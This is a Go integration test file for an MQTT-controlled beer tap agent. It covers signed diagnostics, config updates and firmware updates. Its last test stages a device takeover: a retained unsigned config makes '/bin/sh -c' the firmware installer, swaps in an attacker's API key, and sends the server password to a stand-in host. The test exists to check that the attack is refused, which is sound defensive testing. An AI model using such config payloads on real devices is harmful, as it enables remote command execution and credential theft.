package main

import (
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"github.com/tapagent/tapagent/device"
	"github.com/tapagent/tapagent/internal/testwait"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	mqtt "github.com/eclipse/paho.mqtt.golang"

	"github.com/tapagent/tapagent/diag"
	"github.com/tapagent/tapagent/firmware"
	"github.com/tapagent/tapagent/internal/mqtttest"
)

// inboxClient is a technician's MQTT client.
type inboxClient struct {
	c  mqtt.Client
	mu sync.Mutex
	m  map[string][]string
}

func mqttBroker(t *testing.T) string { return mqtttest.Broker(t) }

func technician(t *testing.T, addr string) *inboxClient {
	ic := &inboxClient{m: map[string][]string{}}
	ic.c = mqtt.NewClient(mqtt.NewClientOptions().AddBroker("tcp://" + addr).SetClientID("tech"))
	if tok := ic.c.Connect(); !tok.WaitTimeout(5*time.Second) || tok.Error() != nil {
		t.Fatal(tok.Error())
	}
	ic.c.Subscribe("tapagent/v1/1001/#", 1, func(_ mqtt.Client, m mqtt.Message) {
		ic.mu.Lock()
		ic.m[m.Topic()] = append(ic.m[m.Topic()], string(m.Payload()))
		ic.mu.Unlock()
	}).Wait()
	t.Cleanup(func() { ic.c.Disconnect(100) })
	return ic
}

func (ic *inboxClient) waitFor(t *testing.T, topic, substr string) string {
	t.Helper()
	var found string
	if !testwait.For(15*time.Second, func() bool {
		ic.mu.Lock()
		defer ic.mu.Unlock()
		msgs := ic.m[topic]
		for i := len(msgs) - 1; i >= 0; i-- {
			if strings.Contains(msgs[i], substr) {
				found = msgs[i]
				return true
			}
		}
		return false
	}) {
		t.Fatalf("nothing on %s containing %q", topic, substr)
	}
	return found
}

func (ic *inboxClient) call(t *testing.T, id, method, params string) map[string]any {
	t.Helper()
	req := fmt.Sprintf(`{"method": %q, "params": %s}`, method, params)
	return ic.send(t, id, []byte(req))
}

// signedCall is call with the request signed by an operator key.
func (ic *inboxClient) signedCall(t *testing.T, key ed25519.PrivateKey, id, method, params string) map[string]any {
	t.Helper()
	r := diag.Request{Method: method, Params: json.RawMessage(params), ExpiresAt: time.Now().Add(time.Minute)}
	diag.Sign(key, 1001, id, &r)
	b, _ := json.Marshal(r)
	return ic.send(t, id, b)
}

func (ic *inboxClient) send(t *testing.T, id string, req []byte) map[string]any {
	t.Helper()
	ic.c.Publish("tapagent/v1/1001/cmd/req/"+id, 1, false, req).Wait()
	var res map[string]any
	json.Unmarshal([]byte(ic.waitFor(t, "tapagent/v1/1001/cmd/res/"+id, "status")), &res)
	return res
}

// operator makes a technician's operator key with `tapagent diag keygen`
// and a simulator configuration that trusts it, with extra appended.
func operator(t *testing.T, extra string) (key ed25519.PrivateKey, keyFile, cfgPath string) {
	t.Helper()
	dir := t.TempDir()
	keyFile = filepath.Join(dir, "anna.key")
	pub, err := exec.Command(binary, "diag", "keygen", "--out", keyFile).Output()
	if err != nil {
		t.Fatalf("diag keygen: %v", err)
	}
	if key, err = readPrivateKey(keyFile); err != nil {
		t.Fatal(err)
	}
	base, err := os.ReadFile(filepath.Join("..", "..", "config", "sim.toml"))
	if err != nil {
		t.Fatal(err)
	}
	cfgPath = filepath.Join(dir, "bench.toml")
	writeFile(t, cfgPath, fmt.Sprintf("%s\n[mqtt]\noperator_keys = [%q]\n%s", base, strings.TrimSpace(string(pub)), extra))
	return key, keyFile, cfgPath
}

func TestMQTTDiagnosticsAndWillAfterKill(t *testing.T) {
	addr := mqttBroker(t)
	tech := technician(t, addr)
	data := t.TempDir()
	sc := filepath.Join(t.TempDir(), "long.toml")
	writeFile(t, sc, longPour)
	key, keyFile, cfgPath := operator(t, "")
	start := func() *exec.Cmd {
		cmd := exec.Command(binary, "sim", "--plain", "--speed", "1", "--no-ttg", "--scenario", sc, "--data", data, "--mqtt", "tcp://"+addr, "--config", cfgPath)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		return cmd
	}
	cmd := start()
	tech.waitFor(t, "tapagent/v1/1001/status", `"state":"online","session":1`)
	if res := tech.call(t, "p1", "diag.ping", "{}"); res["status"].(float64) != 200 {
		t.Fatalf("ping: %v", res)
	}
	tech.waitFor(t, "tapagent/v1/1001/events", typeField(device.EventReaderReady))
	if res := tech.call(t, "s1", "diag.snapshot", "{}"); res["status"].(float64) != 200 || !strings.Contains(fmt.Sprint(res["body"]), "Helles") || !strings.Contains(fmt.Sprint(res["body"]), "PN532 v1.6") {
		t.Fatalf("snapshot: %v", res)
	}
	if res := tech.call(t, "d0", "dex.report", `{"read": true}`); res["status"].(float64) != 400 {
		t.Fatalf("unsigned read-out through dex.report: %v", res)
	}
	res := tech.signedCall(t, key, "d1", "dex.read", `{"base64": true}`)
	body, _ := res["body"].(map[string]any)
	if res["status"].(float64) != 200 || body == nil {
		t.Fatalf("dex.read: %v", res)
	}
	rep, _ := base64.StdEncoding.DecodeString(body["data"].(string))
	if !strings.HasPrefix(string(rep), "DXS*TAP0001001") {
		t.Fatalf("report over MQTT: %q", rep)
	}
	// Commands that change the wall need the operator's signature.
	for _, c := range [][2]string{{"line.unlock", `{"line": 1}`}, {"valve.test", `{"line": 4, "seconds": 30}`},
		{"calibrate", `{"line": 1, "action": "start"}`}, {"agent.restart", `{}`}, {"backlight.set", `{"brightness": 0}`},
		{"dex.read", `{}`}, {"db.check", `{}`},
		{"config.set", `{"version": 1, "toml": "[[line]]\nid = 1\n"}`}} {
		if res := tech.call(t, "anon-"+c[0], c[0], c[1]); res["status"].(float64) != 403 || !strings.Contains(fmt.Sprint(res["body"]), "signed by an operator key") {
			t.Fatalf("unsigned %s: %v", c[0], res)
		}
	}
	if res := tech.signedCall(t, key, "l1", "line.lock", `{"line": 9}`); res["status"].(float64) != 404 {
		t.Fatalf("lock of a missing line: %v", res)
	}
	tech.waitFor(t, "tapagent/v1/1001/events", typeField(device.EventPourAuthorised))
	// Service mode: a valve test only on a locked line.
	if res := tech.signedCall(t, key, "v1", "valve.test", `{"line": 4, "seconds": 1}`); res["status"].(float64) != 409 {
		t.Fatalf("valve test on a line in service to customers: %v", res)
	}
	tech.signedCall(t, key, "l4", "line.lock", `{"line": 4}`)
	if res := tech.signedCall(t, key, "v2", "valve.test", `{"line": 4, "seconds": 1}`); res["status"].(float64) != 202 {
		t.Fatalf("valve test: %v", res)
	}
	tech.waitFor(t, "tapagent/v1/1001/events", `"line":4,"pour_id"`)
	tech.signedCall(t, key, "u4", "line.unlock", `{"line": 4}`)
	// The technician's tool against the same broker.
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"diag", "devices", "--broker", "tcp://" + addr}, "1001\tonline\tsession 1"},
		{[]string{"diag", "call", "--broker", "tcp://" + addr, "--device", "1001", "outbox.stats"}, `"waiting"`},
		{[]string{"diag", "call", "--broker", "tcp://" + addr, "--device", "1001", "--key", keyFile, "backlight.set", `{"brightness": 30}`}, `"brightness": 30`},
		{[]string{"diag", "call", "--broker", "tcp://" + addr, "--device", "1001", "--key", keyFile, "db.check"}, `"ok": true`},
		{[]string{"diag", "call", "--broker", "tcp://" + addr, "--device", "1001", "logs.tail", `{"n": 50}`}, `agent_started`},
		{[]string{"diag", "status", "--broker", "tcp://" + addr, "--device", "1001", "--timeout", "1s"}, `"state":"online"`},
	} {
		out, err := exec.Command(binary, c.args...).CombinedOutput()
		if err != nil || !strings.Contains(string(out), c.want) {
			t.Errorf("%v: %v\n%s", c.args, err, out)
		}
	}
	if out, err := exec.Command(binary, "diag", "call", "--broker", "tcp://"+addr, "--device", "1001", "no.such").CombinedOutput(); err == nil || !strings.Contains(string(out), "404") {
		t.Errorf("unknown method: %v %s", err, out)
	}
	if out, err := exec.Command(binary, "diag", "call", "--broker", "tcp://"+addr, "--device", "1001", "backlight.set", `{"brightness": 10}`).CombinedOutput(); err == nil || !strings.Contains(string(out), "sign it with --key") {
		t.Errorf("unsigned backlight.set: %v %s", err, out)
	}
	cmd.Process.Signal(syscall.SIGKILL)
	cmd.Wait()
	tech.waitFor(t, "tapagent/v1/1001/status", `"state":"offline","session":1`)
	cmd = start()
	tech.waitFor(t, "tapagent/v1/1001/status", `"state":"online","session":2`)
	cmd.Process.Signal(syscall.SIGTERM)
	cmd.Wait()
	tech.waitFor(t, "tapagent/v1/1001/status", `"state":"offline","session":2`)
}

// TestMQTTFirmwareUpdateAndConfigSet: a bench wall with a configuration
// file takes a signed desired configuration into that file, and a signed
// firmware update drains the wall, hands over to the installer and
// reports every step.
func TestMQTTFirmwareUpdateAndConfigSet(t *testing.T) {
	addr := mqttBroker(t)
	tech := technician(t, addr)
	dir := t.TempDir()
	installer := filepath.Join(dir, "install.sh")
	writeFile(t, installer, "#!/bin/sh\necho \"installing $TAPAGENT_FIRMWARE_URL\"\ncp \"$TAPAGENT_FIRMWARE_FILE\" \""+dir+"/installed\"\n")
	rel := filepath.Join(dir, "tapagent-1.2.0")
	writeFile(t, rel, "release 1.2.0\n")
	sum := sha256.Sum256([]byte("release 1.2.0\n"))
	if err := os.Chmod(installer, 0o755); err != nil {
		t.Fatal(err)
	}
	relPub, relKey, _ := ed25519.GenerateKey(nil)
	key, keyFile, cfgPath := operator(t, fmt.Sprintf("[firmware]\ninstaller = [%q]\npublic_key = %q\nallow_file_urls = true\n",
		installer, base64.StdEncoding.EncodeToString(relPub)))
	running, _ := os.ReadFile(cfgPath)
	cmd := exec.Command(binary, "sim", "--plain", "--speed", "1", "--no-ttg", "--scenario", "none", "--duration", "60s",
		"--config", cfgPath, "--data", filepath.Join(dir, "data"), "--mqtt", "tcp://"+addr)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cmd.Process.Signal(syscall.SIGTERM); cmd.Wait() }()
	tech.waitFor(t, "tapagent/v1/1001/status", `"state":"online"`)

	bad, _ := json.Marshal(map[string]any{"version": 2, "toml": string(running) + "install_timeout = \"0s\"\n"})
	if res := tech.signedCall(t, key, "c1", "config.set", string(bad)); res["status"].(float64) != 400 || !strings.Contains(fmt.Sprint(res["body"]), "firmware.install_timeout") {
		t.Fatalf("invalid desired configuration: %v", res)
	}
	newCfg := strings.Replace(string(running), installer, "/usr/local/sbin/tapagent-install", 1)
	good, _ := json.Marshal(map[string]any{"version": 3, "toml": newCfg})
	if res := tech.signedCall(t, key, "c2", "config.set", string(good)); res["status"].(float64) != 202 {
		t.Fatalf("valid desired configuration: %v", res)
	}
	tech.waitFor(t, "tapagent/v1/1001/config/reported", `"version":3,"status":"accepted"`)
	if b, _ := os.ReadFile(cfgPath); string(b) != newCfg {
		t.Fatal("the accepted configuration is not in the file")
	}
	// The operator's tool signs a whole file as a retained desired document.
	signedCfg := filepath.Join(dir, "next.toml")
	writeFile(t, signedCfg, strings.Replace(newCfg, "/usr/local/sbin/tapagent-install", "/usr/bin/tapagent-install", 1))
	t.Cleanup(func() { tech.c.Publish("tapagent/v1/1001/config/desired", 1, true, []byte{}).Wait() })
	for _, c := range []struct {
		version string
		ok      bool
	}{{"4", true}, {"2", false}} {
		out, err := exec.Command(binary, "diag", "desired", "--broker", "tcp://"+addr, "--device", "1001", "--key", keyFile,
			"--version", c.version, signedCfg).CombinedOutput()
		if (err == nil) != c.ok {
			t.Fatalf("diag desired --version %s: %v\n%s", c.version, err, out)
		}
	}
	if b, _ := os.ReadFile(cfgPath); !strings.Contains(string(b), "/usr/bin/tapagent-install") {
		t.Fatalf("the signed document is not in the file:\n%s", b)
	}

	hexsum := fmt.Sprintf("%x", sum)
	if res := tech.signedCall(t, key, "f1", "firmware.update", `{"url": "https://updates.example/t-1.2.0", "sha256": "00", "version": "1.2.0"}`); res["status"].(float64) != 400 {
		t.Fatalf("bad checksum accepted: %v", res)
	}
	unsigned := fmt.Sprintf(`{"url": "file://%s", "sha256": "%s", "version": "1.2.0"}`, rel, hexsum)
	if res := tech.signedCall(t, key, "f2", "firmware.update", unsigned); res["status"].(float64) != 403 || !strings.Contains(fmt.Sprint(res["body"]), "release signature") {
		t.Fatalf("unsigned release: %v", res)
	}
	req := fmt.Sprintf(`{"url": "file://%s", "sha256": "%s", "version": "1.2.0", "signature": %q}`, rel, hexsum, firmware.Sign(relKey, "1.2.0", hexsum))
	if res := tech.call(t, "f3", "firmware.update", req); res["status"].(float64) != 403 {
		t.Fatalf("a signed release in an unsigned command: %v", res)
	}
	if res := tech.signedCall(t, key, "f4", "firmware.update", req); res["status"].(float64) != 202 {
		t.Fatalf("firmware.update: %v", res)
	}
	for _, step := range []string{`"detail":"checksum verified"`, `"detail":"draining`, `"detail":"installer: installing file://`, typeField(device.EventFirmwareInstalled)} {
		tech.waitFor(t, "tapagent/v1/1001/events", step)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "installed")); string(b) != "release 1.2.0\n" {
		t.Fatalf("installer wrote %q", b)
	}
}

// TestMQTTTakeoverFails is the attack in issue 22 against the default
// configuration on a shared broker: anyone who can publish on the device's
// topics retains a desired configuration that makes a shell command the
// installer, drops the cash interface's API key and sends the server
// password elsewhere, restarts the agent and asks for a file:// update.
// The first step fails with the reasons and the file stays as it was;
// every later step is refused too, and the shell command never runs.
func TestMQTTTakeoverFails(t *testing.T) {
	addr := mqttBroker(t)
	attacker := technician(t, addr)
	dir := t.TempDir()
	owned := filepath.Join(dir, "owned")
	installer := filepath.Join(dir, "install.sh")
	writeFile(t, installer, "#!/bin/sh\ntouch "+owned+"\n")
	os.Chmod(installer, 0o755)
	base, err := os.ReadFile(filepath.Join("..", "..", "config", "sim.toml"))
	if err != nil {
		t.Fatal(err)
	}
	cfgPath := filepath.Join(dir, "tapagent.toml")
	const pos = "[pos]\nlisten = \"127.0.0.1:0\"\n"
	running := strings.Replace(string(base), pos, pos+"api_key = \"till-secret-0123456789\"\n", 1)
	writeFile(t, cfgPath, running)
	evil := strings.Replace(string(base), pos, "[pos]\nlisten = \"0.0.0.0:8080\"\napi_key = \"the-attackers-own-key\"\n", 1) +
		fmt.Sprintf("\n[firmware]\ninstaller = [\"/bin/sh\", \"-c\", \"id > %s\"]\nallow_file_urls = true\n", owned) +
		"[ttg]\nurl = \"http://collector.example:8585\"\npassword = \"tapagent\"\n"
	doc, _ := json.Marshal(map[string]any{"version": 99, "toml": evil})
	attacker.c.Publish("tapagent/v1/1001/config/desired", 1, true, doc).Wait()
	t.Cleanup(func() { attacker.c.Publish("tapagent/v1/1001/config/desired", 1, true, []byte{}).Wait() })

	cmd := exec.Command(binary, "sim", "--plain", "--speed", "1", "--no-ttg", "--scenario", "none", "--duration", "60s",
		"--config", cfgPath, "--data", filepath.Join(dir, "data"), "--mqtt", "tcp://"+addr)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cmd.Process.Signal(syscall.SIGTERM); cmd.Wait() }()
	attacker.waitFor(t, "tapagent/v1/1001/status", `"state":"online"`)
	report := attacker.waitFor(t, "tapagent/v1/1001/config/reported", `"version":99`)
	for _, want := range []string{`"status":"rejected"`, "not signed", "firmware.installer: security-critical", "firmware.allow_file_urls", "pos.listen", "pos.api_key", "ttg.url"} {
		if !strings.Contains(report, want) {
			t.Errorf("report %s does not say %q", report, want)
		}
	}
	if b, _ := os.ReadFile(cfgPath); string(b) != running {
		t.Fatalf("the rejected document changed the file:\n%s", b)
	}
	if res := attacker.call(t, "r1", "agent.restart", `{}`); res["status"].(float64) != 403 {
		t.Fatalf("agent.restart: %v", res)
	}
	sum := sha256.Sum256([]byte("x"))
	if res := attacker.call(t, "f1", "firmware.update", fmt.Sprintf(`{"url": "file://%s", "sha256": "%x", "version": "6.6.6"}`, installer, sum)); res["status"].(float64) != 403 {
		t.Fatalf("firmware.update: %v", res)
	}
	if _, err := os.Stat(owned); err == nil {
		t.Fatal("the attacker's command ran")
	}
}
